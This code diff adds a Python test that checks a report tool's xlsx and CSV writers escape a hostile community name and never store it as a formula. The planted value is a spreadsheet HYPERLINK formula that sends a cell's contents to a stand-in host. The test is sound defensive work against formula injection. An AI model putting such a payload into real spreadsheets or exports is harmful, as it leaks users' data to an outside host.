@@ -115,3 +115,25 @@ def test_the_dashboards_tables_xlsx_holds_no_formula(tmp_path):
     first = [cell for cell in estimates[2]]
     assert isinstance(first[header.index("estimate")].value, float)
     assert first[header.index("estimate")].data_type == "n"
+
+
+def test_the_reports_tables_write_a_hostile_community_name_as_text(tmp_path):
+    import dataclasses
+
+    from report_bundle import bundle
+    from retour.report.tables import write_tables
+
+    data = bundle()
+    first = data.communities[0]
+    hostile = dataclasses.replace(first, name='=HYPERLINK("http://x/?"&A1,"click")')
+    data = dataclasses.replace(data, communities=(hostile, *data.communities[1:]))
+    write_tables(data, tmp_path, ("en",))
+    book = openpyxl.load_workbook(tmp_path / "tables-en.xlsx")
+    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
+    assert not any(cell.data_type == "f" for cell in cells)
+    assert any(cell.value == "'" + hostile.name for cell in cells)
+    numbers = [cell.value for cell in cells if isinstance(cell.value, float)]
+    assert numbers  # estimates stay numbers
+    for path in tmp_path.glob("*.csv"):
+        for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8"))):
+            assert not any(value.startswith(("=", "+", "@")) for value in row), (path.name, row)
